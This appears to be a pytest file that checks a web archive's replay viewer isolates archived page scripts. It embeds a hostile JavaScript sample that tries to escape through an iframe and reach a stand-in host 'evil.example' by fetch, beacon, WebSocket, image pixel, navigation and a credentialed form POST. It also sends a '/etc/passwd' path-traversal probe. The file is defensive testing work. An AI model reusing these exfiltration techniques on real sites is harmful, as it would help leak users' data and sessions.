"""The second viewer, with ReplayWeb.page's files, in a real browser: a page with its scripts."""

import gzip
import io
import json
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any, ClassVar
from urllib.parse import parse_qs, urlsplit

from playwright.sync_api import Error, Frame, Page, sync_playwright

from archive import Catalog, LocalStorage
from archive.replay.library import Library
from archive.replay.options import LOOPBACK
from archive.replay.serving import beside, listening
from archive.replay.viewer import make_viewer
from archive.replay.viewing import Viewer
from tests.exchanges import NOW
from tests.replaying import Served, page, served
from tests.stored import open_run

from .conftest import browser, engine

PAPER = "https://paper.example"
STORY = f"{PAPER}/story?a=1&b=2"
TOKEN = "a-long-token-of-the-tests"
SECONDS = 60_000
ALONE = ["--no-sandbox", "--disable-gpu", "--no-proxy-server"]
RULES = "MAP evil.example 127.0.0.1:{}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"
PICTURE = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360"
    "606060000000050001a5f645400000000049454e44ae426082"
)
SCRIPT = """
const frame = document.createElement("iframe");
document.body.append(frame);
const bare = frame.contentWindow;  // what the viewer put in place of fetch and the like is not here
const evil = "http://evil.example/", own = "http://127.0.0.1:PORT/";
const mine = {method: "POST", credentials: "include", mode: "no-cors", body: "url=https://a.b/"};
const tries = [
  () => fetch(`${own}api/search`, {credentials: "include"}),
  () => bare.fetch(`${own}api/search`, {credentials: "include"}),
  () => bare.fetch(`${own}save`, mine),
  () => fetch(`${evil}fetch`),
  () => bare.fetch(`${evil}bare`, {mode: "no-cors"}),
  () => bare.navigator.sendBeacon(`${evil}beacon`, "x"),
  () => new bare.WebSocket("ws://evil.example/socket"),
  () => new bare.EventSource(`${evil}events`),
  () => { new bare.Image().src = `${evil}pixel.png`; },
  () => { new bare.Image().src = `${own}api/search`; },
  () => { frame.src = `${evil}frame`; },
  () => { bare.open(`${evil}open`); },
];
const last = [
  () => {
    const form = document.createElement("form");
    form.action = `${own}save`; form.method = "post"; form.target = "_top";
    document.body.append(form);
    form.submit();
  },
  () => { bare.top.location.href = `${evil}top`; },
  () => { window.parent.location = `${evil}parent`; },
];
async function main() {
  const found = [];
  for (const attempt of tries)
    try {
      const got = await attempt();
      found.push(got && got.status || 0);
    } catch { found.push(-1); }
  const told = document.createElement("pre");
  told.id = "told";
  told.textContent = JSON.stringify({found, cookie: document.cookie, opener: !!bare.opener});
  document.body.append(told);
  last.forEach((attempt, number) => setTimeout(attempt, 4000 + 500 * number));
}
document.getElementById("text").textContent = "Written by a script.";
main();
"""
HTML = b"""<!doctype html><title>With a script</title><link rel=stylesheet href=/a.css>
<p id=text>Nothing without scripts.</p><img id=image src=/a.png><script src=/a.js></script>"""


@contextmanager
def viewed(tmp_path: Path, storage: LocalStorage, catalog: Catalog) -> Iterator[Served]:
    """The archive, and beside it the viewer."""
    library = Library.of(storage, catalog)
    with listening("127.0.0.1", 0) as made:
        viewer = Viewer(port=made.getsockname()[1])
        app = make_viewer(library, engine(), viewer, LOOPBACK)
        own = served(storage, catalog, token=TOKEN, viewer=viewer)
        with beside(app, made), own as site:
            fill(tmp_path, storage, catalog, site.port)
            yield site


def fill(folder: Path, storage: LocalStorage, catalog: Catalog, port: int) -> None:
    """A page that a script writes, with what it needs."""
    run = open_run(folder, storage, catalog)
    script = SCRIPT.replace("PORT", str(port)).encode()
    parts = {
        "a.js": (script, "text/javascript"),
        "a.css": (b"#text { color: rgb(1, 2, 3) }", "text/css"),
        "a.png": (PICTURE, "image/png"),
    }
    run.record(page(STORY, "20261121080000", HTML))
    for number, (name, (body, kind)) in enumerate(parts.items()):
        when = f"2026112109000{number}"
        made = page(f"{PAPER}/{name}", when, body, f"Content-Type: {kind}")
        run.record(replace(made, role="requisite", via=STORY))
    run.close({}, now=NOW)


class Evil(BaseHTTPRequestHandler):
    """A server elsewhere, which notes whatever reaches it."""

    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET  # noqa: N815 - the name that is called

    def log_message(self, *words: Any) -> None:
        """Nothing."""


@contextmanager
def tab() -> Iterator[Page]:
    """A tab of a browser that finds this machine, and the server elsewhere."""
    Evil.hits.clear()
    with ThreadingHTTPServer(("127.0.0.1", 0), Evil) as evil, sync_playwright() as playwright:
        Thread(target=evil.serve_forever, daemon=True).start()
        rules = f"--host-resolver-rules={RULES.format(evil.server_port)}"
        chromium = playwright.chromium.launch(executable_path=browser(), args=[*ALONE, rules])
        opened = chromium.new_page()
        opened.set_default_timeout(SECONDS)
        yield opened
        chromium.close()
        evil.shutdown()


def has_told(frame: Frame) -> bool:
    """Whether a frame shows the archived page, and its script has told what it could do; not while
    the viewer still loads another page into it.
    """
    try:
        return "/w/" in frame.url and frame.query_selector("#told") is not None
    except Error:
        return False


def replayed(opened: Page) -> Frame:
    """The frame with the archived page, once its script has told what it could do."""
    for _ in range(300):
        for frame in opened.frames:
            if has_told(frame):
                return frame
        opened.wait_for_timeout(200)
    raise AssertionError(f"the page is not shown: {[one.url for one in opened.frames]}")


def test_a_page_is_shown_with_its_scripts_which_reach_nobody(
    tmp_path: Path, storage: LocalStorage, catalog: Catalog
) -> None:
    with viewed(tmp_path, storage, catalog) as site, tab() as opened:
        own = f"http://127.0.0.1:{site.port}"
        opened.goto(f"{own}/login")
        opened.fill("#token", TOKEN)
        opened.click(".login button")
        opened.goto(f"{own}/web/*/{STORY}")
        opened.click("text=with scripts")
        frame = replayed(opened)
        assert opened.url.startswith("http://localhost:")
        assert frame.inner_text("#text") == "Written by a script."
        assert frame.evaluate("getComputedStyle(text).color") == "rgb(1, 2, 3)"
        assert frame.evaluate("image.naturalWidth") == 1
        told = json.loads(frame.inner_text("#told"))
        assert 200 not in told["found"], told
        assert "fiche" not in told["cookie"]
        assert not told["opener"]
        opened.wait_for_timeout(7000)
        assert opened.url.startswith("http://localhost:")
        counted = site("/metrics", Authorization=f"Bearer {TOKEN}").text
        assert 'route="save"' not in counted
        assert 'route="api"' not in counted
        assert Evil.hits == []
        opened.goto("http://evil.example/itself")  # it could have been reached
        assert Evil.hits[0] == "/itself"


def test_a_key_opens_one_page_alone(
    tmp_path: Path, storage: LocalStorage, catalog: Catalog
) -> None:
    with viewed(tmp_path, storage, catalog) as site:
        path = f"/scripts/20261121080000/{STORY}"
        assert site(path).status == 401
        link = site(path, Authorization=f"Bearer {TOKEN}").headers["location"]
        source = parse_qs(urlsplit(link).query)["source"][0]
        parts = urlsplit(source)
        viewer = Served(parts.port or 0)
        whole = viewer(parts.path)
        assert (whole.status, whole.body[:2]) == (200, b"PK")
        some = viewer(parts.path, Range="bytes=0-1")
        assert (some.status, some.body) == (206, b"PK")
        with zipfile.ZipFile(io.BytesIO(whole.body)) as file:
            index = gzip.decompress(file.read("indexes/index.cdx.gz")).decode()
        assert all(name in index for name in ("story?a=1", "a.js", "a.css", "a.png"))
        assert viewer(parts.path.replace("20261121080000", "20261121080001")).status == 404
        assert viewer(parts.path.replace("/pages/", "/pages/0")).status == 404
        assert viewer(parts.path, Host="evil.example").status == 421
        assert viewer("/engine/../../etc/passwd").status == 404
        for got in (whole, viewer("/"), viewer("/sw.js"), viewer("/nothing")):
            assert "default-src 'self'" in got.headers["content-security-policy"]
            assert "set-cookie" not in got.headers
